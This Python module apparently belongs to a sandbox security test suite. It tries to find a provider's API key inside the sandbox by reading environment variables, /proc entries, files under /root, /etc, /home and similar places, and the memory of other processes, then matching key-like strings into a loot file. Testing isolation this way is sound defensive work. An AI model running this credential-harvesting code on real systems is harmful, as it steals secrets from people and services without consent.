"""The attack on keys: attempts to find a provider's key in the sandbox.

All attempts append what they find to the same file. The host then searches this file for the key, because no program in
the sandbox knows the key.
"""

from __future__ import annotations

import os
import re
from functools import partial
from itertools import islice
from typing import TYPE_CHECKING

from securebench.testing.provider.inside.base import EgressAttempt

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

_MAX_FILE = 64 * 1024
_MAX_FILES = 500
_MAX_MEMORY = 32 * 1024 * 1024
_MAX_LOOT = 4 * 1024 * 1024
_PLACES = (
    "/tmp",
    "/home",
    "/root",
    "/run",
    "/etc",
    "/dev/shm",
    "/opt/securebench",
    "/proc/1/root/run",
    "/sys/class/dmi",
)
_OF_A_PROCESS = ("environ", "cmdline", "mountinfo", "net/tcp", "net/unix")
_TOO_LARGE = "/opt/securebench/programs"
_LIKE_A_KEY = re.compile(rb"(?:sk-|AIza|c2st|QUl6|736b2d|41497a61)[A-Za-z0-9_+/=-]{8,200}")
"""Matches what looks like a key of a provider, as plain text, base64 or hexadecimal."""


def attempts(path: str) -> Iterator[EgressAttempt]:
    """Yield the attempts. Each appends its findings to the file at ``path``."""
    for name in _OF_A_PROCESS:
        yield _attempt(f"/proc/*/{name}", path, partial(_of_processes, name))
    for place in _PLACES:
        yield _attempt(f"files in {place}", path, partial(_files, place))
    yield _attempt("the variables of this process", path, _variables)
    yield _attempt("the memory of processes", path, _memories)


def _attempt(name: str, path: str, find: Callable[[], Iterable[bytes]]) -> EgressAttempt:
    return EgressAttempt(name, partial(_keep, path, find), is_judged_outside=True)


def _keep(path: str, find: Callable[[], Iterable[bytes]]) -> str:
    found = b"\n".join(find())[:_MAX_LOOT]
    with open(path, "ab") as loot:
        loot.write(found + b"\n")
    return f"{len(found)} bytes"


def _variables() -> Iterator[bytes]:
    yield from (name + b"=" + value for name, value in os.environb.items())


def _of_processes(name: str) -> Iterator[bytes]:
    for number in _processes():
        yield _read(f"/proc/{number}/{name}")


def _processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit()]


def _files(place: str) -> Iterator[bytes]:
    walked = (os.path.join(directory, name) for directory, _, names in os.walk(place) for name in names)
    chosen = (path for path in walked if not path.startswith(_TOO_LARGE) and os.path.isfile(path))
    for path in islice(chosen, _MAX_FILES):
        yield path.encode("utf-8", "surrogateescape")
        yield _read(path)


def _read(path: str) -> bytes:
    """Return the beginning of a file, or nothing if it cannot be read."""
    try:
        with open(path, "rb") as file:
            return file.read(_MAX_FILE)
    except OSError:
        return b""


def _memories() -> Iterator[bytes]:
    """Yield everything that looks like a key in the memory of readable processes."""
    for number in _processes():
        for start, size in _regions(number):
            try:
                with open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
                    memory.seek(start)
                    yield from set(_LIKE_A_KEY.findall(memory.read(size)))
            except (OSError, ValueError, OverflowError):
                continue


def _regions(number: str) -> Iterator[tuple[int, int]]:
    """Yield the start and size of each writable memory region of a process, up to a total of ``_MAX_MEMORY`` bytes."""
    left = _MAX_MEMORY
    for line in _read(f"/proc/{number}/maps").splitlines():
        bounds, rights = line.split()[:2]
        start, end = (int(bound, 16) for bound in bounds.split(b"-"))
        if rights.startswith(b"rw") and left > 0:
            yield start, min(end - start, left)
            left -= end - start
